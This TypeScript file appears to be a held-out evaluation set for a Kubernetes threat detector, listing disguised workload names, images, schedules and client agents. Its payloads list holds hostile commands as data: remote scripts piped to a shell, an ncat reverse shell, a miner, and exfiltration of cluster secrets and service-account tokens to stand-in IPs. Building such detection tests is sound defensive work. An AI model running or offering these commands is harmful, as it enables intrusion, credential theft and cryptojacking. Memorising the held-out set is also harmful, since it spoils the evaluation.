import type { LoudTables } from './loud-tables.ts';

/** For the final figure only: nothing of the detector is developed with these. Other values, names and combinations than the other sets'. */
export const loud: LoudTables = {
  prefix: 'F-L',
  count: 55,
  names: [
    'disk-scrubber',
    'proxy-tuner',
    'journal-rotate',
    'cgroup-fix',
    'tls-refresh',
    'inode-watch',
    'kernel-stats',
    'fsck-runner',
    'route-sync',
    'clock-drift',
    'perf-sampler',
  ],
  images: [
    'docker.io/library/ubuntu:24.04',
    'docker.io/alpine/socat:1.8.0.0',
    'ghcr.io/platform-helpers/shell:4',
    'quay.io/opsbox/toolbelt:latest',
    'docker.io/library/ruby:3.4-slim',
    'registry.sorre1.example/base/ubuntu:24',
    'docker.io/fluentbit-io/agent:7',
  ],
  payloads: [
    ['download into a shell', ['sh', '-c', 'wget -O - http://203.0.113.105/boot.sh | ash']],
    ['connected shell', ['sh', '-c', 'ncat 198.51.100.113 9001 -e /bin/sh']],
    ['encoded command', ['bash', '-c', 'echo aW5lcnQ= | openssl base64 -d | bash']],
    ['waits for its master', ['sh', '-c', 'while :; do sleep 3600; done']],
    ['miner', ['/tmp/kworker', '-o', 'stratum+ssl://198.51.100.140:5555', '-u', 'w1', '--donate-level=0']],
    [
      'credentials sent away',
      [
        'sh',
        '-c',
        'tar c /var/run/secrets/kubernetes.io | base64 | curl -s --data-binary @- http://203.0.113.121/k',
      ],
    ],
    ['code from the network', ['ruby', '-ropen-uri', '-e', 'eval(URI.open("http://198.51.100.151/r").read)']],
    ['unknown program', ['/var/tmp/.x/updater', '--to', '203.0.113.170:8443']],
    [
      'secrets of the cluster',
      ['sh', '-c', 'kubectl get secrets --all-namespaces -o json | nc 203.0.113.9 99'],
    ],
    [
      'fetched and made executable',
      ['sh', '-c', 'wget -q -O /tmp/q http://203.0.113.181/q; chmod 755 /tmp/q; /tmp/q'],
    ],
  ],
  schedules: ['*/4 * * * *', '*/1 * * * *', '21 */2 * * *', '52 1 * * *', '0 5 30 2 *', '@daily'],
  agents: [
    'kubectl/v1.27.11 (linux/arm64) kubernetes/b9e2ad6',
    'Go-http-client/2.0',
    'python-httpx/0.28.1',
    'kubectl/v1.33.0 (darwin/arm64) kubernetes/60a317e',
    'axios/1.7.9',
  ],
  strides: { kind: 7, actor: 3, power: 4, hiding: 5 },
};
